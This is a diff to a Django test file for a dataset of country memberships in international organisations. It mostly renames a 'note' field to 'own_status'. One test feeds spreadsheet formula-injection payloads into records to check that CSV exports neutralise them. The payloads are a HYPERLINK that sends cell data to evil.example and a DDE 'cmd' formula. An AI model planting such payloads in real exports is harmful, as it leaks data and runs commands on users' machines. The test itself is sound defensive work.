@@ -45,7 +45,7 @@ def test_first_release_then_a_changelog_of_added_ended_and_corrected(releases_di
     )
     Membership.objects.filter(country__iso2="GB", organization__slug="osce").update(end_date=datetime.date(2030, 1, 1))
     Membership.objects.filter(country__iso2="RO", organization__slug="nato", status="member").update(
-        note="Corrected note."
+        own_status="Corrected own status."
     )
     release()
 
@@ -54,14 +54,18 @@ def test_first_release_then_a_changelog_of_added_ended_and_corrected(releases_di
     log = current["changelog"]
     assert [(p["country"], p["organization"], p["status"]) for p in log["added"]] == [("BR", "nato", "partner")]
     assert [(p["country"], p["end_date"]) for p in log["ended"]] == [("GB", "2030-01-01")]
-    assert [(p["country"], p["changes"]["note"][1]) for p in log["corrected"]] == [("RO", "Corrected note.")]
+    assert [(p["country"], p["changes"]["own_status"][1]) for p in log["corrected"]] == [
+        ("RO", "Corrected own status.")
+    ]
     assert log["removed"] == []
     assert (releases_dir / current["version"] / "datapackage.json").exists()
 
 
 def test_downloads_page_and_json_list_the_releases_with_their_files():
     release()
-    Membership.objects.filter(country__iso2="RO", organization__slug="nato", status="member").update(note="Changed.")
+    Membership.objects.filter(country__iso2="RO", organization__slug="nato", status="member").update(
+        own_status="Changed."
+    )
     release()
     client = Client()
     page = client.get("/downloads/")
@@ -104,7 +108,7 @@ def test_downloads_are_public_cors():
 
 
 HOSTILE = {
-    "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "own_status": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "quote": "+SUM(1,2)",
     "cow_igo": "=cmd|' /C calc'!A0",
     "title": "@SUM(A1:A9)",
@@ -112,10 +116,10 @@ HOSTILE = {
 
 
 def test_every_csv_of_a_release_neutralises_formulas_as_the_api_does(releases_dir):
-    """A note, a quote, a source title and a COW abbreviation (a panel column's name) that a spreadsheet
+    """An own status, a quote, a source title and a COW abbreviation (a panel column's name) that a spreadsheet
     would run: each is written with a leading apostrophe; the panel's numeric codes stay numbers."""
     period = Membership.objects.filter(citations__isnull=False).first()
-    Membership.objects.filter(pk=period.pk).update(note=HOSTILE["note"])
+    Membership.objects.filter(pk=period.pk).update(own_status=HOSTILE["own_status"])
     citation = period.citations.first()
     type(citation).objects.filter(pk=citation.pk).update(quote=HOSTILE["quote"])
     type(citation.source).objects.filter(pk=citation.source_id).update(title=HOSTILE["title"])
